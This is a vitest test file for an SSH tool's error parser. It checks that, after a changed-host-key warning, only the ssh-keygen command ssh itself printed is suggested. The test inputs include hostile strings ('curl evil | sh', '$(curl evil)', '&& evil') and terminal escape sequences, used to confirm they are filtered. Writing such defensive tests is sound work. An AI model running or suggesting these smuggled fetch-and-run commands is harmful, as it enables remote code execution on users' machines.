import { expect, test } from 'vitest';

import type { ConnectionOptions } from '../../../../../src/fleet/ssh/config/connection-options.ts';
import { opensshFailure } from '../../../../../src/fleet/ssh/wire/openssh-failure.ts';

const options = {
  name: 'gpu-1',
  hostname: 'gpu-1.lab',
  port: 22,
  user: 'ann',
  typed: 'gpu-1',
  pinned: [],
  identityFiles: [],
  ofInventory: new Set(),
};

function nextOf(said: string): string | undefined {
  return opensshFailure(options as unknown as ConnectionOptions, said).problem.next;
}

const changed = 'WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!';

test.each([
  [
    `${changed}\n  ssh-keygen -f "/home/ann/.ssh/known_hosts" -R "[gpu-1.lab]:2222"\n`,
    'ssh-keygen -f "/home/ann/.ssh/known_hosts" -R "[gpu-1.lab]:2222"',
  ],
  [`ssh-keygen -f x; curl evil | sh\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
  [`ssh-keygen -f "$(curl evil)" -R "x"\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
  [`ssh-keygen -f "/home/ann/x" -R "y" && evil\n${changed}`, 'ssh-keygen -R gpu-1.lab'],
])('only what ssh itself suggests is suggested: %j', (said, command) => {
  expect(nextOf(said)).toBe(`compare the fingerprint at the machine's console, then: ${command}`);
});

test('a banner cannot speak to the terminal', () => {
  const { problem } = opensshFailure(
    options as unknown as ConnectionOptions,
    '\u001b[2J\u001b]0;x\u0007banner\n\u001b[1APermission denied (publickey).',
  );
  expect(problem.seen).toBe("tried what the system's ssh tries (Permission denied (publickey).)");
});
